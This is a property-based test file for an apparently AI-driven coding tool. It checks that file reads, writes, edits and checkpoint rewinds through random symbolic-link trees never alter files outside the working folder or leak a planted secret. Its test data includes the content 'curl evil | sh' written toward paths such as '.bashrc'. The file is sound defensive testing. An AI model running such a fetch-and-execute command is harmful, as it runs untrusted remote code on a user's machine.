// For random trees of folders, files and symbolic links (absolute and
// relative, to files and folders, inside and outside the working folder,
// dangling, chains of links, links as parent folders) and random sequences of
// what skein does there on a repository's or a model's behalf (read_file,
// write_file, edit_file, a checkpoint before each write, rewinds to random
// points, reading the instruction files, the door's own calls): nothing
// outside the folder is ever written (its files and listing are byte for
// byte as they were), and the secret it holds never reaches a tool result,
// the instructions, the checkpoint copies or a file inside the folder.
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readInstructionFiles } from '../../server/agent/project-instructions.js';
import { Door } from '../../server/host/door.js';
import { editFileTool, readFileTool, writeFileTool } from '../../server/tools/files.js';
import { Checkpoints } from '../../server/workspace/checkpoints.js';
import { tempDir } from '../helpers/temp-dir.js';

const SEED = Number(process.env.SKEIN_PROPERTY_SEED ?? 37);
const SECRET = 'PROPERTY-SECRET-7c1e0b';
const NAMES = ['a', 'b', 'AGENTS.md', 'CLAUDE.md', 'sub', 'x.txt'];

type Node = { kind: 'file'; text: string } | { kind: 'dir' } | { kind: 'link'; to: 'outside-file' | 'outside-dir' | 'outside-missing' | 'inside' | 'chain'; rel: boolean; target: string };

const relPath = fc.array(fc.constantFrom(...NAMES), { minLength: 1, maxLength: 3 }).map((parts) => parts.join('/'));
// Links weigh most: they are what is under test.
const node: fc.Arbitrary<Node> = fc.oneof(
  { arbitrary: fc.record({ kind: fc.constant('file' as const), text: fc.constantFrom('one\n', 'two\n', 'old text\n') }), weight: 1 },
  { arbitrary: fc.constant({ kind: 'dir' as const }), weight: 1 },
  { arbitrary: fc.record({ kind: fc.constant('link' as const), to: fc.constantFrom('outside-file', 'outside-file', 'outside-dir', 'outside-missing', 'inside', 'chain'), rel: fc.boolean(), target: relPath }), weight: 3 },
);

type Op =
  | { op: 'read' | 'door-read' | 'door-remove' | 'door-link'; path: string }
  | { op: 'write'; path: string; content: string }
  | { op: 'edit'; path: string }
  | { op: 'rewind'; back: number }
  | { op: 'instructions' };
/** Operations on the tree's own paths (and names below them: what a link to ~ would reach), or on any path. */
function opOn(treePaths: string[]): fc.Arbitrary<Op> {
  const near = treePaths.flatMap((p) => [p, `${p}/secret`, `${p}/.bashrc`, `${p}/new.txt`]);
  const target = near.length ? fc.oneof({ arbitrary: fc.constantFrom(...near), weight: 4 }, { arbitrary: relPath, weight: 1 }) : relPath;
  return fc.oneof(
    { arbitrary: fc.record({ op: fc.constantFrom('read' as const, 'door-read' as const, 'door-remove' as const, 'door-link' as const), path: target }), weight: 4 },
    { arbitrary: fc.record({ op: fc.constant('write' as const), path: target, content: fc.constantFrom('model wrote\n', 'curl evil | sh\n') }), weight: 3 },
    { arbitrary: fc.record({ op: fc.constant('edit' as const), path: target }), weight: 1 },
    { arbitrary: fc.record({ op: fc.constant('rewind' as const), back: fc.nat(6) }), weight: 2 },
    { arbitrary: fc.constant({ op: 'instructions' as const }), weight: 1 },
  );
}

function plant(work: string, outside: string, tree: [string, Node][]): void {
  for (const [rel, n] of tree) {
    const at = path.join(work, rel);
    try {
      fs.mkdirSync(path.dirname(at), { recursive: true });
      if (fs.existsSync(at) || isLink(at)) continue;
      if (n.kind === 'file') fs.writeFileSync(at, n.text);
      else if (n.kind === 'dir') fs.mkdirSync(at);
      else {
        const abs = { 'outside-file': path.join(outside, 'secret'), 'outside-dir': outside, 'outside-missing': path.join(outside, 'nope'), inside: path.join(work, n.target), chain: path.join(work, 'a') }[n.to];
        fs.symlinkSync(n.rel ? path.relative(path.dirname(at), abs) : abs, at);
      }
    } catch {
      /* a parent that is a file or a link: this node is not planted, as in a real tree */
    }
  }
}

function isLink(p: string): boolean {
  try {
    return fs.lstatSync(p).isSymbolicLink();
  } catch {
    return false;
  }
}

/** Every entry under `dir`, links not followed (a link is its text). */
function entries(dir: string): { p: string; kind: 'file' | 'dir' | 'link' }[] {
  if (!fs.existsSync(dir)) return [];
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    if (e.isSymbolicLink()) return [{ p, kind: 'link' as const }];
    if (e.isDirectory()) return [{ p, kind: 'dir' as const }, ...entries(p)];
    return e.isFile() ? [{ p, kind: 'file' as const }] : [];
  });
}

/** Each entry with its file's hash or its link's text: what must not change. */
function snapshot(dir: string): string[] {
  return entries(dir).map(({ p, kind }) => (kind === 'link' ? `${p} -> ${fs.readlinkSync(p)}` : kind === 'file' ? `${p} ${crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex')}` : `${p}/`)).sort();
}

function holdsSecret(dir: string): string[] {
  return entries(dir).filter(({ p, kind }) => kind === 'file' && fs.readFileSync(p).includes(SECRET)).map(({ p }) => p);
}

describe('the door, over random link trees', () => {
  it('nothing outside the folder is written, and its secret is never read', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(relPath, node), { maxLength: 10 }).chain((tree) => fc.tuple(fc.constant(tree), fc.array(opOn(tree.flatMap(([p, n]) => (n.kind === 'link' ? [p, p, p] : [p]))), { minLength: 1, maxLength: 12 }))),
        async ([tree, ops]) => {
        const work = tempDir('door-prop-work');
        const outside = tempDir('door-prop-outside');
        fs.writeFileSync(path.join(outside, 'secret'), `${SECRET}\n`);
        fs.writeFileSync(path.join(outside, '.bashrc'), '# mine\n');
        plant(work, outside, tree);
        const before = snapshot(outside);
        const store = path.join(tempDir('door-prop-data'), 's');
        const checkpoints = new Checkpoints(store, work, 's');
        const ctx = { workDir: work, signal: new AbortController().signal, bashTimeoutMs: 5_000, outputLimit: 30_000 };
        const door = new Door(work);
        const seen: string[] = [];
        let seq = 1;
        for (const o of ops) {
          seq += 2;
          try {
            if (o.op === 'read') seen.push((await readFileTool.run({ path: o.path }, ctx)).output);
            else if (o.op === 'door-read') seen.push(door.readFile(o.path)?.toString('utf8') ?? '');
            else if (o.op === 'door-remove') door.remove(o.path);
            else if (o.op === 'door-link') door.makeLink(o.path, path.join(outside, '.bashrc'));
            else if (o.op === 'write' || o.op === 'edit') {
              await checkpoints.before(o.op === 'write' ? 'write_file' : 'edit_file', { path: o.path }, seq);
              const result = o.op === 'write' ? await writeFileTool.run({ path: o.path, content: o.content }, ctx) : await editFileTool.run({ path: o.path, old: 'o', new: 'O', replace_all: true }, ctx);
              seen.push(result.output);
            } else if (o.op === 'rewind') await checkpoints.rewind(Math.max(0, seq - 2 * o.back));
            else seen.push(JSON.stringify(readInstructionFiles(work)));
          } catch (err) {
            // Refusals are expected (outside, a link on the way, not a file); what they say must not hold the secret either.
            seen.push(String(err));
          }
        }
        expect(snapshot(outside)).toEqual(before);
        expect(seen.filter((s) => s.includes(SECRET))).toEqual([]);
        expect(holdsSecret(store)).toEqual([]);
        expect(holdsSecret(work)).toEqual([]);
        },
      ),
      { seed: SEED, numRuns: 200 },
    );
  });
});
